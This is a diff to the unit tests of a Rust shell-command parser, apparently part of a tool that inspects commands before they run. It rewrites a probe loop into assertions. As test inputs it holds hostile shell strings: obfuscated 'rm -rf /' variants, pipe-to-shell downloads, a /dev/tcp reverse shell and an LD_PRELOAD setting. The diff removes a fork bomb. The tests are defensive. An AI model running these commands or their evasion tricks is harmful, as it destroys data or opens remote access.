@@ -636,66 +636,91 @@ fn extended_test_words<'a>(expr: &'a ast::ExtendedTestExpr, into: &mut Vec<&'a a
 mod tests {
     use super::*;
 
-    fn show(text: &str) -> Vec<String> {
-        parse(text.as_bytes(), 0)
+    fn text(words: &[Cow<'_, [u8]>]) -> Vec<String> {
+        words
+            .iter()
+            .map(|w| String::from_utf8_lossy(w).into_owned())
+            .collect()
+    }
+
+    fn argvs(input: &str) -> Vec<Vec<String>> {
+        parse(input.as_bytes(), 0)
             .unwrap()
             .iter()
-            .map(|u| {
-                let words: Vec<_> = u
-                    .argv
-                    .iter()
-                    .map(|w| String::from_utf8_lossy(w).into_owned())
-                    .collect();
-                let fed: Vec<_> = u
-                    .fed_by
-                    .iter()
-                    .map(|w| String::from_utf8_lossy(w).into_owned())
-                    .collect();
-                let env: Vec<_> = u
-                    .env
-                    .iter()
-                    .map(|w| String::from_utf8_lossy(w).into_owned())
-                    .collect();
-                let red: Vec<_> = u
-                    .redirects
-                    .iter()
-                    .map(|w| String::from_utf8_lossy(w).into_owned())
-                    .collect();
-                format!(
-                    "{words:?} fed={fed:?} env={env:?} redir={red:?} stdin={:?}",
-                    u.stdin_text
-                        .as_ref()
-                        .map(|s| String::from_utf8_lossy(s).into_owned())
-                )
-            })
+            .map(|u| text(&u.argv))
             .collect()
     }
 
     #[test]
-    fn probe() {
-        for t in [
-            "'r'm -rf /",
-            r"r\m -rf /",
-            r"$'\x72m' -rf /",
-            "echo hi; rm -rf /",
-            "echo $(rm -rf /)",
-            "echo `rm -rf /`",
-            "{rm,-rf,/}",
-            "rm${IFS}-rf${IFS}/",
-            "curl x | sh",
-            "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
-            "LD_PRELOAD= ls",
-            "export WARDEN_SOCKET=/tmp/x",
-            "rm -rf \"$HOME\" ~/ ${HOME}/x",
-            "bash <(curl -s x)",
-            "sh <<< 'rm -rf /'",
-            "cat <<EOF | sh\nrm -rf /\nEOF\n",
-            "(cd /; rm -rf *) && true || false",
-            "for f in $(ls); do rm $f; done",
-            "> ~/.bash_history",
-            ":(){ :|:& };:",
-        ] {
-            eprintln!("{t:?}\n   {:#?}", show(t));
-        }
+    fn quotes_escapes_and_expansions_are_resolved() {
+        assert_eq!(argvs("'r'm -rf /"), [["rm", "-rf", "/"]]);
+        assert_eq!(argvs(r"r\m -rf /"), [["rm", "-rf", "/"]]);
+        assert_eq!(argvs(r"$'\x72\155' x"), [["rm", "x"]]);
+        assert_eq!(argvs("{rm,-rf,/}"), [["rm", "-rf", "/"]]);
+        assert_eq!(argvs("rm${IFS}-rf${IFS}/"), [["rm", "-rf", "/"]]);
+        assert_eq!(
+            argvs("rm \"$HOME\" ${HOME}/x ~/"),
+            [["rm", "$HOME", "$HOME/x", "~/"]]
+        );
+    }
+
+    #[test]
+    fn every_simple_command_is_found() {
+        assert_eq!(
+            argvs("a 1 && b || (c; { d; }) | e & f $(g `h`)"),
+            [
+                vec!["a", "1"],
+                vec!["b"],
+                vec!["c"],
+                vec!["d"],
+                vec!["e"],
+                vec!["f", "$(g `h`)"],
+                vec!["g", "`h`"],
+                vec!["h"]
+            ]
+        );
+        assert_eq!(
+            argvs("for x in $(ls); do rm $x; done"),
+            [vec!["ls"], vec!["rm", "$x"]]
+        );
+    }
+
+    #[test]
+    fn pipelines_substitutions_and_redirections_are_recorded() {
+        let units = parse(b"curl x | sudo tee f | sh", 0).unwrap();
+        assert_eq!(text(&units[2].fed_by), ["curl", "sudo", "tee"]);
+        let units = parse(b"bash <(wget -O- x)", 0).unwrap();
+        assert_eq!(text(&units[0].fed_by), ["wget"]);
+        let units = parse(b"bash -i >& /dev/tcp/1.2.3.4/1 0>&1 < in.txt", 0).unwrap();
+        assert_eq!(text(&units[0].redirects), ["/dev/tcp/1.2.3.4/1"]);
+        assert_eq!(text(&units[0].inputs), ["in.txt"]);
+        let units = parse(b"LD_PRELOAD= A=1 ls; unset B; export C=2", 0).unwrap();
+        assert_eq!(text(&units[0].env), ["LD_PRELOAD", "A"]);
+        assert_eq!(text(&units[1].env), ["B"]);
+        assert_eq!(text(&units[2].env), ["C"]);
+        let units = parse(b"echo 'rm -rf /' | sh", 0).unwrap();
+        assert_eq!(units[1].stdin_text.as_deref(), Some(&b"rm -rf /"[..]));
+        let units = parse(b"sh <<EOF\nrm x\nEOF\n", 0).unwrap();
+        assert_eq!(units[0].stdin_text.as_deref(), Some(&b"rm x\n"[..]));
+    }
+
+    #[test]
+    fn limits_are_errors() {
+        assert_eq!(
+            parse(&vec![b'a'; MAX_LEN + 1], 0).err(),
+            Some(ShellError::TooLong(MAX_LEN + 1))
+        );
+        assert_eq!(parse(b"ls", MAX_DEPTH + 1).err(), Some(ShellError::TooDeep));
+        let deep = format!(
+            "{}x{}",
+            "(".repeat(MAX_DEPTH + 1),
+            ")".repeat(MAX_DEPTH + 1)
+        );
+        assert_eq!(parse(deep.as_bytes(), 0).err(), Some(ShellError::TooDeep));
+        assert!(matches!(parse(b"echo 'x", 0), Err(ShellError::Syntax(_))));
+        assert_eq!(
+            parse("x;".repeat(MAX_UNITS + 1).as_bytes(), 0).err(),
+            Some(ShellError::TooMany)
+        );
     }
 }
